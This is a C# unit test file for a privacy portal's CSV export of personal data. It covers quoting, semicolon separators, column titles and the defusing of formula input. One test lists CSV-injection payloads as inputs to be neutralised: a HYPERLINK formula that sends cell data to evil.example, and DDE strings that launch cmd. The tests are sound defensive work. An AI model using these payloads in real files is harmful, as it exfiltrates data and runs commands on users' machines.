using System.Text;
using PrivacyPortal.Features.MyData;

namespace PrivacyPortal.Tests.Features.MyData;

public sealed class CsvTests
{
    [Theory]
    [InlineData("+47 912 34 567")]
    [InlineData("+372 5123 4567")]
    [InlineData("-12,50")]
    [InlineData("+1 (555) 010-0199")]
    [InlineData("Storgata 12, 0155 Oslo")]
    public void Phone_numbers_amounts_and_text_are_written_as_they_are(string value)
    {
        Assert.Equal(value.Contains(';', StringComparison.Ordinal) ? $"\"{value}\"\r\n" : value + "\r\n", Row(value));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+A1")]
    [InlineData("\t=1+1")]
    public void Anything_a_spreadsheet_could_run_as_a_formula_is_taken_as_text(string value)
    {
        Assert.True(Csv.NeedsDefusing(value));
        Assert.StartsWith("'", Row(value).TrimStart('"'), StringComparison.Ordinal);
    }

    [Fact]
    public void Columns_are_separated_by_semicolons_and_quoted_when_needed()
    {
        var line = new StringBuilder();

        Csv.AppendRow(line, ["Ordre", "12,50", "a;b", "say \"hi\"", null]);

        Assert.Equal("Ordre;12,50;\"a;b\";\"say \"\"hi\"\"\";\r\n", line.ToString());
    }

    [Theory]
    [InlineData("widthMm", "Width mm")]
    [InlineData("deliveryAddress", "Delivery address")]
    [InlineData("total", "Total")]
    [InlineData("vat_number", "Vat number")]
    public void Content_fields_get_readable_column_titles(string field, string title)
    {
        Assert.Equal(title, PersonalDataExport.FieldLabel(field));
    }

    private static string Row(string value)
    {
        var line = new StringBuilder();
        Csv.AppendRow(line, [value]);
        return line.ToString();
    }
}
